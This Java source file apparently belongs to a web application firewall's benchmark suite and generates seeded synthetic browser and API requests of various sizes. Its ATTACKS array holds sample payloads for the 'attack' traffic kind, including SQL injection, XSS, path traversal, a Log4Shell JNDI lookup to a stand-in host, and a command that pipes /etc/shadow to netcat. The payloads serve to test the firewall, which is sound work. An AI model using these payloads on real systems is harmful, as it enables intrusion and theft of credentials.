package gatehouse.bench;

import gatehouse.seclang.body.Header;
import gatehouse.seclang.body.RequestHead;
import gatehouse.seclang.text.Bytes;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.StringJoiner;
import java.util.UUID;

/// Requests as browsers and API clients send them, no two alike: fixed requests would only measure
/// the caches. The same seed makes the same requests.
final class WafTraffic {
  /// One request with its whole body.
  record Request(RequestHead head, Bytes body) {}

  /// What can be made, as the programs' arguments name it.
  static final List<String> KINDS =
      List.of("get", "json1k", "json10k", "form", "json100k", "json1m", "attack");

  private static final String[] WORDS =
      ("summer shoes leather jacket garden table blue green order invoice customer delivery express"
              + " monday contact support account balance monthly report quarterly berlin london street"
              + " house apartment second floor please ring twice leave with neighbour thanks birthday"
              + " present wrapped large small medium cotton organic selected central station drop off"
              + " point updates creation table lamp where from to and by the river")
          .split(" ");
  private static final String[] NAMES =
      "Anna Müller,John O'Neil,María García,Li Wei,Olivia Smith,Jürgen Groß,Noah Dubois,Eve Adams"
          .split(",");
  private static final String[] ATTACKS = {
    "1' OR '1'='1' -- ",
    "<script>alert(document.cookie)</script>",
    "../../../../etc/passwd",
    "; cat /etc/shadow | nc 10.0.0.1 4444",
    "${jndi:ldap://evil.example/a}",
    "1 UNION SELECT username, password FROM users",
    "<img src=x onerror=alert(1)>",
    "php://filter/convert.base64-encode/resource=index.php"
  };

  private final Random random;

  WafTraffic(long seed) {
    random = new Random(seed);
  }

  List<Request> make(String kind, int count) {
    List<Request> requests = new ArrayList<>(count);
    for (int i = 0; i < count; i++) {
      requests.add(
          switch (kind) {
            case "get" -> get("/shop/" + word() + "/" + number(), query());
            case "attack" -> get("/shop/" + word(), "q=" + encode(pick(ATTACKS)) + "&" + query());
            case "form" -> post("application/x-www-form-urlencoded", form());
            case "json1k" -> post("application/json", json(1, 20, 26));
            case "json10k" -> post("application/json", json(31, 9, 5));
            case "json100k" -> post("application/json", json(100, 9, 90));
            case "json1m" -> post("application/json", json(100, 9, 1_100));
            default -> throw new IllegalArgumentException(kind);
          });
    }
    return requests;
  }

  private Request get(String path, String query) {
    List<Header> headers = browser();
    headers.add(Header.of("Upgrade-Insecure-Requests", "1"));
    return new Request(head("GET", path + "?" + query, headers), Bytes.EMPTY);
  }

  private Request post(String type, String body) {
    byte[] bytes = Bytes.utf8(body).toArray();
    List<Header> headers = browser();
    headers.add(Header.of("Content-Type", type));
    headers.add(Header.of("Content-Length", String.valueOf(bytes.length)));
    return new Request(head("POST", "/api/v1/" + word() + "s", headers), Bytes.of(bytes));
  }

  private static RequestHead head(String method, String target, List<Header> headers) {
    return new RequestHead(Bytes.of(method), Bytes.of(target), Bytes.of("HTTP/1.1"), headers);
  }

  /// Eleven fields; the caller adds the rest.
  private List<Header> browser() {
    int version = 120 + random.nextInt(20);
    List<Header> headers = new ArrayList<>();
    headers.add(Header.of("Host", "www.shop.example"));
    headers.add(
        Header.of(
            "User-Agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
                + " Chrome/"
                + version
                + ".0.0.0 Safari/537.36"));
    headers.add(
        Header.of("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"));
    headers.add(Header.of("Accept-Language", "en-GB,en;q=0.9,de;q=0.7"));
    headers.add(Header.of("Accept-Encoding", "gzip, deflate, br, zstd"));
    headers.add(Header.of("Referer", "https://www.shop.example/" + word() + "/" + number()));
    headers.add(
        Header.of(
            "Cookie",
            "session=" + uuid() + "; theme=dark; consent=analytics." + number() + "; lang=en"));
    headers.add(Header.of("Connection", "keep-alive"));
    headers.add(Header.of("Sec-Fetch-Dest", "document"));
    headers.add(Header.of("Sec-Fetch-Mode", "navigate"));
    headers.add(Header.of("Sec-Fetch-Site", "same-origin"));
    return headers;
  }

  private String query() {
    return "search=" + encode(words(3)) + "&page=" + random.nextInt(90) + "&sort=" + word();
  }

  private String form() {
    return "name="
        + encode(pick(NAMES))
        + "&email="
        + encode(email())
        + "&street="
        + encode(words(2) + " " + random.nextInt(99))
        + "&zip="
        + number()
        + "&phone="
        + encode("+49 30 " + number())
        + "&newsletter=on&token="
        + uuid()
        + "&amount="
        + random.nextInt(999)
        + ".99&comment="
        + encode(words(18) + ".");
  }

  /// An array of objects, or one object, whose free texts have `words` words at most.
  private String json(int objects, int fields, int words) {
    if (objects == 1) {
      return object(fields, words);
    }
    StringJoiner array = new StringJoiner(",", "[", "]");
    for (int i = 0; i < objects; i++) {
      array.add(object(fields, words));
    }
    return array.toString();
  }

  private String object(int fields, int words) {
    String[] all = {
      "\"id\":\"" + uuid() + "\"",
      "\"name\":\"" + pick(NAMES) + "\"",
      "\"email\":\"" + email() + "\"",
      "\"total\":" + random.nextInt(9_999) + "." + (10 + random.nextInt(89)),
      "\"active\":" + random.nextBoolean(),
      "\"created\":\"2026-0" + (1 + random.nextInt(9)) + "-1" + random.nextInt(9) + "T08:30:0Z\"",
      "\"sku\":\"" + word().toUpperCase(Locale.ROOT) + "-" + number() + "\"",
      "\"quantity\":" + random.nextInt(40),
      "\"note\":\"" + words(1 + words / 2 + random.nextInt(words / 2 + 1)) + "\"",
      "\"url\":\"https://cdn.shop.example/img/" + word() + "/" + number() + ".jpg\"",
      "\"city\":\"" + word() + "\"",
      "\"zip\":\"" + number() + "\"",
      "\"street\":\"" + words(2) + " " + random.nextInt(99) + "\"",
      "\"phone\":\"+49 30 " + number() + "\"",
      "\"currency\":\"EUR\"",
      "\"locale\":\"en_GB\"",
      "\"weight\":" + random.nextInt(90) + ".5",
      "\"comment\":\"" + words(words) + ", (" + words(3) + ").\"",
      "\"reference\":\"" + uuid() + "\"",
      "\"status\":\"" + word() + "\""
    };
    StringJoiner object = new StringJoiner(",", "{", "}");
    for (int i = 0; i < fields; i++) {
      object.add(all[i]);
    }
    return object.toString();
  }

  private String pick(String[] from) {
    return from[random.nextInt(from.length)];
  }

  private String word() {
    return pick(WORDS);
  }

  private String words(int count) {
    StringJoiner text = new StringJoiner(" ");
    for (int i = 0; i < count; i++) {
      text.add(word());
    }
    return text.toString();
  }

  private String number() {
    return String.valueOf(10_000 + random.nextInt(90_000));
  }

  private String email() {
    return word() + "." + word() + random.nextInt(99) + "@mail.example";
  }

  private String uuid() {
    return new UUID(random.nextLong(), random.nextLong()).toString();
  }

  private static String encode(String text) {
    return java.net.URLEncoder.encode(text, java.nio.charset.StandardCharsets.UTF_8);
  }
}
